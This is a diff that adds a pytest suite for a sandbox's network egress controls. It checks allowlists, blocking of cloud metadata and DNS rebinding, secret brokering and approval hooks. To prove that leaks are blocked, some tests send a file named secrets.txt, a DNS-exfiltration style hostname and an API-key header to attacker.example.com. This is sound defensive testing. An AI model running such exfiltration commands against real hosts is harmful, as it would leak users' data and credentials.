@@ -1,0 +1,257 @@
+"""Egress control against the fake internet of conftest.py: nothing leaves this machine."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import time
+
+import pytest
+
+from warmbox import InvalidArgument, Network, Sandbox, Secret
+from warmbox.engine.engine import Engine
+from warmbox.network import netns
+
+from .conftest import ALLOWED, ATTACKER, METADATA
+
+pytestmark = pytest.mark.sandbox
+CURL = "curl -sS --max-time 8 "
+
+
+def sh(sb, cmd: str, timeout: float = 40):
+    return sb.commands.run(["/bin/bash", "-c", cmd], timeout=timeout)
+
+
+def events(sb, **match):
+    return [e for e in sb.network.log() if all(getattr(e, k) == v for k, v in match.items())]
+
+
+@pytest.fixture
+def allow_sb(net_home, world):
+    world.clear_logs()
+    sb = Sandbox.create(network=Network(allow=["allowed.test"]), timeout=300, home=net_home)
+    yield sb
+    sb.kill()
+
+
+def test_default_sandbox_reaches_nothing(net_home, world):
+    world.clear_logs()
+    with Sandbox.create(timeout=120, home=net_home) as sb:
+        r = sh(sb, "cat /sys/class/net/*/operstate | wc -l; ls /sys/class/net")
+        assert r.stdout.split() == ["1", "lo"]
+        probes = {
+            "tcp": f"{CURL} http://{ALLOWED}/hello.txt",
+            "tcp_metadata": f"{CURL} http://{METADATA}/",
+            "dns": "getent hosts allowed.test",
+            "udp": f"python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+                   f"s.sendto(b'x', ('{ALLOWED}', 53))\"",
+            "icmp": f"python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)"
+                    f".sendto(bytes.fromhex('0800f7ff00000000'), ('{ALLOWED}', 0))\"",
+            "ipv6": "python3 -c \"import socket; socket.create_connection(('2001:db8::1', 80), timeout=3)\"",
+            "proxy": f"{CURL} -x http://{netns.GATEWAY}:{netns.PROXY_PORT} http://allowed.test/hello.txt",
+        }
+        for name, cmd in probes.items():
+            r = sh(sb, cmd)
+            assert r.exit_code != 0, f"{name} probe succeeded from a sandbox without network: {r.stdout}"
+        assert "HTTP_PROXY" not in sh(sb, "env").stdout
+    assert world.log("allowed") == [] and world.log("metadata") == [] and world.log("dns") == []
+
+
+def test_allowlisted_site_works_with_unchanged_tools(allow_sb, world):
+    sb = allow_sb
+    assert "network" in sb.timings  # the link is set up on the request path
+    r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
+    assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
+    r = sh(sb, "cd /tmp && git clone -q http://allowed.test/repo.git && cat repo/README")
+    assert r.exit_code == 0 and "cloned through the warmbox proxy" in r.stdout, r.stderr
+    r = sh(sb, "cd /tmp && python3 -m pip download -q --no-deps --disable-pip-version-check "
+               "--index-url http://allowed.test/simple/ --trusted-host allowed.test -d /tmp/dl wbtpkg "
+               "&& ls /tmp/dl", timeout=90)
+    assert r.exit_code == 0 and "wbtpkg-1.0-py3-none-any.whl" in r.stdout, r.stderr
+    sb.files.write("/tmp/ca.pem", (world.dir / "ca.pem").read_text())
+    r = sh(sb, "python3 -c \"import requests; r = requests.get('https://allowed.test/hello.txt', "
+               "verify='/tmp/ca.pem', timeout=10); print(r.status_code, r.text.strip())\"")
+    assert r.exit_code == 0 and r.stdout.strip() == "200 hello from the allowed site", r.stderr
+    got = events(sb, host="allowed.test", decision="allow")
+    assert {e.kind for e in got} >= {"http", "connect"}
+    assert all(e.address == ALLOWED and e.rule == "allow:allowed.test" for e in got)
+    tunnel = [e for e in got if e.kind == "connect"][0]
+    assert tunnel.port == 443 and tunnel.bytes_up > 0 and tunnel.bytes_down > 0
+    # the site saw the requests through the proxy only (its client is the upstream namespace)
+    assert {rec["client"] for rec in world.log("allowed")} == {"192.0.2.1"}
+
+
+def test_attacker_upload_is_refused_and_logged(allow_sb, world):
+    sb = allow_sb
+    sb.files.write("/workspace/secrets.txt", "customer data\n")
+    r = sh(sb, "python3 -c \"import requests; r = requests.post('http://attacker.example.com/upload', "
+               "files={'data': open('/workspace/secrets.txt','rb')}, timeout=10); print(r.status_code)\"")
+    assert r.stdout.strip() == "403", (r.stdout, r.stderr)
+    r = sh(sb, f"{CURL} -T /workspace/secrets.txt https://attacker.example.com/upload")
+    assert r.exit_code != 0
+    denied = events(sb, host="attacker.example.com", decision="deny")
+    assert {e.kind for e in denied} == {"http", "connect"} and all(e.rule == "default-deny" for e in denied)
+    assert world.log("attacker") == []
+
+
+def test_raw_ip_and_direct_connections_bypassing_the_proxy_fail(allow_sb, world):
+    sb = allow_sb
+    for cmd in (f"{CURL} --noproxy '*' http://{ALLOWED}/hello.txt",
+                f"{CURL} --noproxy '*' http://allowed.test/hello.txt",
+                f"python3 -c \"import socket; socket.create_connection(('{ATTACKER}', 443), timeout=3)\"",
+                f"python3 -c \"import socket; socket.create_connection(('{netns.GATEWAY}', 22), timeout=3)\""):
+        r = sh(sb, cmd)
+        assert r.exit_code != 0, cmd
+    # a raw IP through the proxy is an unknown destination too
+    r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://{ALLOWED}/hello.txt")
+    assert r.stdout == "403"
+    assert world.log("allowed") == [] and world.log("attacker") == []
+
+
+def test_metadata_refused_by_address_even_via_allowed_names(net_home, world):
+    world.clear_logs()
+    net = Network(allow=["metadata.test", "rebind.test", "169.254.0.0/16", METADATA])
+    with Sandbox.create(network=net, timeout=120, home=net_home) as sb:
+        for url in (f"http://{METADATA}/latest/meta-data/", "http://metadata.test/latest/"):
+            r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' {url}")
+            assert r.stdout == "403", url
+        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://rebind.test/hello.txt")
+        assert r.stdout == "200"
+        world.set_zone(rebind_test=METADATA)  # the allowed name is re-pointed at the metadata address
+        try:
+            time.sleep(0.2)
+            r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://rebind.test/latest/")
+            assert r.stdout == "403"
+            r = sh(sb, "getent hosts rebind.test")  # the resolver withholds the blocked answer
+            assert METADATA not in r.stdout
+        finally:
+            world.set_zone()
+        rules = {(e.host, e.rule) for e in events(sb, decision="deny")}
+        assert (METADATA, "blocked-address") in {(e.address, e.rule) for e in events(sb, decision="deny")}
+        assert ("rebind.test", "blocked-address") in rules and ("metadata.test", "blocked-address") in rules
+    assert world.log("metadata") == []
+
+
+def test_dns_answers_only_allowed_names(allow_sb, world):
+    sb = allow_sb
+    r = sh(sb, "getent hosts allowed.test")
+    assert r.exit_code == 0 and ALLOWED in r.stdout
+    for name in ("attacker.example.com", "c2VjcmV0.exfil.attacker.example.com", "unknown.test"):
+        r = sh(sb, f"getent hosts {name}")
+        assert r.exit_code != 0, name
+    asked = {rec["name"] for rec in world.log("dns")}
+    assert "allowed.test" in asked
+    assert not asked & {"attacker.example.com", "c2VjcmV0.exfil.attacker.example.com", "unknown.test"}
+    nx = {e.host for e in events(sb, kind="dns", decision="deny")}
+    assert {"attacker.example.com", "unknown.test"} <= nx
+
+
+def test_secret_is_brokered_never_seen(net_home, world):
+    world.clear_logs()
+    value = "sk-REAL-" + os.urandom(8).hex()
+    net = Network(allow=["api.test", "attacker.example.com"])
+    with Sandbox.create(network=net, secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
+                        timeout=120, home=net_home) as sb:
+        env = sh(sb, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'").stdout
+        placeholder = [line.split("=", 1)[1] for line in env.splitlines() if line.startswith("OPENAI_API_KEY=")][0]
+        assert value not in env and placeholder.startswith("warmbox-secret-")
+        r = sh(sb, "grep -rl --binary-files=text \"" + value + "\" / --exclude-dir=proc --exclude-dir=sys "
+                   "2>/dev/null | head -3")
+        assert r.stdout == ""
+        # the allowed host gets the real value (HTTPS, intercepted with the sandbox's own CA)
+        r = sh(sb, f"{CURL} -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.test/headers")
+        assert r.exit_code == 0, r.stderr
+        assert json.loads(r.stdout)["Authorization"] == f"Bearer {value}"
+        r = sh(sb, "python3 -c \"import os, requests; print(requests.get('https://api.test/headers', headers="
+                   "{'X-Key': os.environ['OPENAI_API_KEY']}, timeout=10).json()['X-Key'])\"")
+        assert r.stdout.strip() == value, r.stderr
+        # an allowed host that is not the secret's gets only the inert placeholder
+        for scheme in ("http", "https"):
+            r = sh(sb, f"{CURL} -k -H \"Authorization: Bearer $OPENAI_API_KEY\" -d x {scheme}://attacker.example.com/up")
+            assert r.exit_code == 0, r.stderr
+        seen = json.dumps(world.log("attacker"))
+        assert placeholder in seen and value not in seen
+        assert [rec["headers"].get("Authorization") for rec in world.log("allowed")] == [f"Bearer {value}", None]
+        assert [rec["headers"].get("X-Key") for rec in world.log("allowed")] == [None, value]
+        logged = json.dumps([e.__dict__ for e in sb.network.log()])
+        assert value not in logged
+        snap = sb.snapshot()
+    eng = Engine.for_home(net_home)
+    from warmbox.engine import snapshot as snapshots
+    blob = snapshots.resolve(eng, snap.snapshot_id)
+    assert value.encode() not in json.dumps(blob.__dict__, default=str).encode()
+    assert value not in (net_home / "netproxy.log").read_text() if (net_home / "netproxy.log").exists() else True
+
+
+def test_policy_update_applies_to_the_next_connection(net_home, world):
+    world.clear_logs()
+    with Sandbox.create(timeout=120, home=net_home) as sb:
+        assert sb.network.policy() == "none"
+        sb.network.update(Network(allow=["allowed.test"]))  # none -> link + env on the running sandbox
+        r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
+        assert r.exit_code == 0, r.stderr
+        sb.network.update(Network(allow=["attacker.example.com"]))
+        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt")
+        assert r.stdout == "403"
+        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://attacker.example.com/x")
+        assert r.stdout in ("200", "404")
+        sb.network.update("none")
+        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://attacker.example.com/x")
+        assert r.stdout == "403"
+        assert sb.network.policy() == "none"
+        with pytest.raises(InvalidArgument):
+            sb.network.update(Network(allow=["bad host name!"]))
+
+
+def test_approval_hook_allows_and_denies(net_home, world):
+    world.clear_logs()
+    asked = []
+
+    def hook(req):
+        asked.append((req.host, req.port, req.kind))
+        return {"allowed.test": "allow_once", "api.test": "allow_always"}.get(req.host, "deny")
+
+    with Sandbox.create(network=Network(allow=[], on_unknown="ask"), on_approval=hook, timeout=120,
+                        home=net_home) as sb:
+        code = lambda url: sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' {url}").stdout
+        assert code("http://allowed.test/hello.txt") == "200"
+        assert code("http://attacker.example.com/x") == "403"
+        assert code("http://api.test/hello.txt") == "200"
+        assert code("http://api.test/hello.txt") == "200"  # allow_always: no second question
+        assert code("http://allowed.test/hello.txt") == "200"  # allow_once: asked again
+        assert [h for h, _, _ in asked] == ["allowed.test", "attacker.example.com", "api.test", "allowed.test"]
+        assert "api.test" in sb.network.policy()
+        rules = [(e.host, e.rule) for e in sb.network.log() if e.kind == "http"]
+        assert ("attacker.example.com", "approval:deny") in rules and ("allowed.test", "approval:allow_once") in rules
+        assert ("api.test", "allow:api.test") in rules
+    assert world.log("attacker") == []
+
+
+def test_approval_without_answer_denies_in_bounded_time(net_home, world):
+    def slow(req):
+        time.sleep(8)  # longer than network.approval_timeout (5 s)
+        return "allow_once"
+
+    with Sandbox.create(network=Network(on_unknown="ask"), on_approval=slow, timeout=120, home=net_home) as sb:
+        t0 = time.monotonic()
+        r = sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt")
+        assert r.stdout == "403" and time.monotonic() - t0 < 7.5
+        assert [e.rule for e in sb.network.log() if e.kind == "http"] == ["approval:timeout"]
+
+
+def test_everything_is_removed_with_the_sandbox(net_home, world):
+    engine = Engine.for_home(net_home)
+    egress_ns = netns.egress_name(engine.runtime)
+    sb = Sandbox.create(network="internet", timeout=120, home=net_home)
+    sid = sb.sandbox_id
+    assert sh(sb, f"{CURL} -o /dev/null -w '%{{http_code}}' http://allowed.test/hello.txt").stdout == "200"
+    row = engine.registry.link(sid)
+    assert row is not None and row[1] in netns.links_in(egress_ns)
+    sb.kill()
+    assert engine.registry.link(sid) is None
+    assert row[1] not in netns.links_in(egress_ns)
+    out = subprocess.run(["ip", "netns", "exec", egress_ns, "nft", "list", "set", "inet", "warmbox", "peers"],
+                         capture_output=True, text=True).stdout
+    assert row[0] not in out
+    assert engine.network_log(sid), "the audit log outlives the sandbox"
